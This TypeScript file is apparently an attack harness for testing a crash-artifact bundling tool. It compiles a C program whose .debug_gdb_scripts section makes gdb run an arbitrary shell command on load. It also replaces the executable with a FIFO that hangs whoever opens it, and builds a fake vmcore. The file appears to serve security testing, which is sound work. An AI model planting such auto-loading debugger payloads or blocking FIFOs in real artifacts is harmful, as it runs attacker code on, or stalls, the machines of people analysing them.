import { execFileSync } from 'node:child_process'
import { readFileSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Piece } from '../operator/bundle/bundle.ts'
import type { Target } from './attack.ts'

/** Aborts. Its section is Python that gdb runs when it loads the program, unless auto-load is off (gdb, "dotdebug_gdb_scripts"). */
const source = (command: string) => `
asm(".pushsection \\".debug_gdb_scripts\\", \\"MS\\",@progbits,1\\n.byte 4\\n"
    ".ascii \\"gdb.inlined\\\\n\\"\\n.ascii \\"import gdb\\\\n\\"\\n"
    ".ascii \\"gdb.execute('shell ${command}')\\\\n\\"\\n.byte 0\\n.popsection\\n");
#include <stdlib.h>
int main(void) { abort(); }
`

interface Owned {
  readonly program: Buffer
  readonly core: Buffer
}

const owned = new Map<string, Owned>()

/**
 * A program of the attacker's and its core. Where the program lay when it crashed, a FIFO of the operator's lies now: whoever
 * opens it waits for ever.
 */
function ownedProgram({ command, operators }: Target): Owned {
  const known = owned.get(operators)
  if (known !== undefined) return known
  const [exe, c, core] = ['app', 'app.c', 'app.core'].map((name) => join(operators, name)) as [string, string, string]
  writeFileSync(c, source(command))
  execFileSync('gcc', ['-g', '-o', exe, c])
  const quiet = ['-nx', '-batch', '-iex', 'set auto-load off', '-ex', 'run', '-ex', `generate-core-file ${core}`, exe]
  execFileSync('gdb', quiet, {
    stdio: ['ignore', 'ignore', 'pipe'],
    env: { PATH: process.env.PATH, DEBUGINFOD_URLS: '' },
  })
  const made = { program: readFileSync(exe), core: readFileSync(core) }
  for (const path of [exe, c, core]) rmSync(path)
  execFileSync('mkfifo', [exe])
  owned.set(operators, made)
  return made
}

/** The core of the attacker's program, as a living process's. */
export function ownedCore(artifact: string, target: Target): Piece {
  const item = { exe: join(target.operators, 'app'), pid: 1 }
  const { core } = ownedProgram(target)
  return { artifact: `${artifact}.zst`, source: 'live', content: core, encoding: 'frames', item }
}

/** The attacker's program, at the place where its core looks for it. */
export function ownedExecutable(target: Target): Piece {
  const path = join(target.operators, 'app')
  const item = { path, exe: path }
  return {
    artifact: 'executables/app.zst',
    source: 'executables',
    content: ownedProgram(target).program,
    encoding: 'frames',
    item,
  }
}

/** A snapshot of the machine's memory with a kernel that is called so; `memory/vmcore` as VMCORE.md has it, from the last note on. */
export function vmcore(release: string, details?: Piece['details']): Piece {
  const text = `OSRELEASE=${release}\nBUILD-ID=${'ab'.repeat(20)}\nPAGESIZE=4096\n`
  const content = Buffer.concat([Buffer.from(`\x7fELF${'\0'.repeat(600)}VMCOREINFO\0\0${text}`), Buffer.alloc(8192)])
  return { artifact: 'memory/vmcore.zst', source: 'memory', content, encoding: 'frames', details }
}
